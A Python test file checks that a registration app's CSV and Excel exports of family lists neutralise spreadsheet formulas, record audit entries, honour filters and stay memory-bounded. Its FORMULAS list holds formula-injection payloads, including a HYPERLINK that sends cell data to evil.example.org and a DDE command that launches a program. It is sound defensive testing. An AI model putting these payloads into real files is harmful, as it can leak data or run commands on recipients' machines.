"""Families as files: what stands in them, that nothing of it runs, and that the record says who took it."""

import csv
import gc
import io
import tracemalloc
from collections.abc import Iterator
from typing import Any

import pytest
from flask import Flask
from openpyxl import load_workbook
from sqlalchemy import select, text

from registration import demo_families, sheets
from registration.accounts.models import AuditEntry
from registration.extensions import db
from registration.families.models import Attendance, Registration
from registration.staff.families_list import files, find
from registration.staff.families_list.asked import Asked
from tests.conftest import NOW
from tests.pages import Browser
from tests.signing_in import signed_in
from tests.staff.coming import comes, meeting_of, where

LOCALES = ("en", "es", "vi")
# What a spreadsheet would run, or take for something else than a text.
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example.org?"&A2,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "＝1+1",
    "#REF!",
    "#N/A",
)


@pytest.fixture
def staff(app: Flask) -> Browser:
    """A coordinator who reads English."""
    return signed_in(app, "coordinator")


def download(browser: Browser, kind: str, query: str = "") -> bytes:
    """The file that the button of a list makes."""
    page = browser.get(where(rest=f"families/{query}"))
    (form,) = [form for form in page.forms() if form.action.split("?")[0].endswith(f".{kind}")]
    response = browser.raw("post", form.action, data=form.values)
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == f'attachment; filename="english-meeting-families.{kind}"'
    assert response.headers["Cache-Control"] == "no-store"
    made: bytes = response.data
    return made


def read_csv(data: bytes) -> list[dict[str, str]]:
    """The rows of a CSV file by the heads of its columns."""
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def read_xlsx(data: bytes) -> list[dict[str, Any]]:
    """The rows of a workbook; every cell of text must be one."""
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type in ("s", "n"), (cell.coordinate, cell.data_type)
    heads, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(map(str, heads), row, strict=True)) for row in rows]


def test_both_files_hold_what_a_family_said(staff: Browser) -> None:
    made = comes(
        "Nguyễn Thị Đào",
        email="dao@example.org",
        phone="+13035550148",
        adults=2,
        children=1,
        spoken=("vi", "ase"),
        listeners=2,
        needs=("large_print", "wheelchair"),
        needs_other="A chair with arms",
        question="Ai quyết định?",
        attendance=Attendance.ONLINE,
        call_me=True,
        contact_language="vi",
    )
    said = {
        "Code": made.code,
        "Name": "Nguyễn Thị Đào",
        "State": "Registered",
        "Takes part": "Online",
        "Phone": "(303) 555-0148",
        "Email": "dao@example.org",
        "Please call": "Yes",
        "We write or call in": "Vietnamese",
        "Languages": "Vietnamese; American Sign Language (ASL)",
        "Needs": "Papers in large print; A place for a wheelchair",
        "Other needs": "A chair with arms",
        "Question": "Ai quyết định?",
        "Registered": "2027-03-30 14:00",
    }
    numbers = {"Adults": 2, "Children": 1, "Children in childcare": 0, "Listeners": 2}
    (plain,) = read_csv(download(staff, "csv"))
    assert said.items() <= plain.items()
    assert {name: str(number) for name, number in numbers.items()}.items() <= plain.items()
    (sheet,) = read_xlsx(download(staff, "xlsx"))
    assert said.items() <= sheet.items()
    assert numbers.items() <= sheet.items()


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_text_is_run_as_a_formula(staff: Browser, formula: str) -> None:
    comes(formula, spoken=(), other_language=formula, needs_other=formula, question=formula)
    (plain,) = read_csv(download(staff, "csv"))
    (sheet,) = read_xlsx(download(staff, "xlsx"))
    for column in ("Name", "Languages", "Other needs", "Question"):
        neutral = formula if formula.startswith("#") else f"'{formula}"
        assert plain[column] == neutral, column
        assert sheet[column] == formula, column


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
def test_every_beginning_of_a_formula_is_made_harmless(begins: str) -> None:
    assert sheets.neutral(f"{begins}1") == f"'{begins}1"
    assert sheets.neutral(f"1{begins}") == f"1{begins}"


def test_what_a_workbook_cannot_hold_is_left_out(staff: Browser) -> None:
    made = comes()
    odd = text("UPDATE registration SET question = :odd WHERE id = :id")
    db.session.execute(odd, {"odd": "a\x0bb\x1f", "id": made.id})
    db.session.commit()
    assert read_xlsx(download(staff, "xlsx"))[0]["Question"] == "ab"


def test_a_file_holds_what_the_list_is_narrowed_to_and_the_record_says_so(staff: Browser) -> None:
    comes("Rosa", spoken=("es",))
    comes("Linh", spoken=("vi",))
    comes("Rosa elsewhere", slug="spanish-meeting")
    rows = read_csv(download(staff, "csv", "?language=es&q=rosa&only=no_email"))
    assert rows == []
    rows = read_csv(download(staff, "csv", "?language=es&q=rosa"))
    assert [row["Name"] for row in rows] == ["Rosa"]
    assert len(read_xlsx(download(staff, "xlsx"))) == 2
    entries = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "families_exported")).all()
    assert [entry.facts for entry in entries] == [
        {"format": "csv", "families": 0, "filters": ["text", "language", "no_email"]},
        {"format": "csv", "families": 1, "filters": ["text", "language"]},
        {"format": "xlsx", "families": 2, "filters": []},
    ]
    assert {entry.meeting_id for entry in entries} == {meeting_of().id}
    assert all(entry.person_id for entry in entries)
    assert "rosa" not in str([entry.facts for entry in entries])


def test_a_get_makes_no_file_and_an_old_form_neither(staff: Browser) -> None:
    comes()
    assert staff.raw("get", where(rest="families.csv")).status_code == 405
    answer = staff.raw("post", where(rest="families.csv"), data={"csrf_token": "old"})
    assert answer.status_code == 422
    assert "Nothing was done yet" in answer.text
    assert db.session.scalar(select(AuditEntry.id).where(AuditEntry.action == "families_exported")) is None


def test_every_family_stands_in_the_file_once(app: Flask, staff: Browser, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(files, "AT_A_TIME", 50)
    demo_families.load_families(400, NOW)
    there = set(db.session.scalars(select(Registration.code).where(Registration.meeting_id == meeting_of().id)))
    found = [row["Code"] for row in read_csv(download(staff, "csv"))]
    assert len(found) == len(set(found))
    assert set(found) == there
    assert len(there) > 100


@pytest.mark.one_database
@pytest.mark.parametrize("kind", list(files.Format))
def test_memory_does_not_grow_with_the_number_of_families(app: Flask, kind: files.Format) -> None:
    meeting = meeting_of()
    ids = [comes(f"Family {number}", question="?" * 500).id for number in range(20)]

    def batches(times: int) -> Iterator[list[int]]:
        for number in range(times):
            # What nothing holds any more is no memory that grows; when Python clears it away depends on other tests.
            if number % 10 == 0:
                gc.collect()
            yield ids

    def peak(times: int) -> int:
        tracemalloc.start()
        made = files.make(kind, meeting, batches(times), "en")
        assert made.families == times * len(ids)
        most = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        made.close()
        return most

    # Only what is made from here on is looked through each time.
    gc.freeze()
    try:
        peak(5)
        # Two thousand families more are a megabyte of questions alone; the first one may stay in memory.
        assert peak(200) < peak(100) + 700_000
    finally:
        gc.unfreeze()


def test_filters_of_a_file_are_walked_to_the_end(app: Flask) -> None:
    comes("First", spoken=(), needs=("wheelchair",))
    for number in range(12):
        comes(f"Other {number}", spoken=())
    wanted = Asked(need="wheelchair")
    found = [one for ids in find.every(meeting_of().id, wanted, [], 2) for one in ids]
    assert len(found) == 1


@pytest.mark.parametrize("locale", LOCALES)
def test_the_heads_are_in_the_language_of_who_takes_it(app: Flask, locale: str) -> None:
    browser = signed_in(app, "coordinator", locale=locale)
    comes()
    (row,) = read_csv(download(browser, "csv"))
    assert {"en": "Languages", "es": "Idiomas", "vi": "Ngôn ngữ"}[locale] in row


def test_the_page_says_how_many_families_the_file_will_hold(
    app: Flask, staff: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    for number in range(5):
        comes(f"Family {number}", attendance=Attendance.ONLINE if number == 4 else Attendance.IN_PERSON)
    said = {"": "The file will hold 5 families.", "?attendance=online": "The file will hold 1 family."}
    for query, words in said.items():
        assert words in staff.get(where(rest=f"families/{query}")).text
        assert len(read_csv(download(staff, "csv", query))) == int(words.split()[4])
    monkeypatch.setattr(find, "PAGE", 2)
    text = staff.get(where(rest="families/?attendance=in_person")).text
    assert "The file will hold those that fit, of 5 families in all." in text
    assert "The file will hold 5 families." in staff.get(where(rest="families/")).text
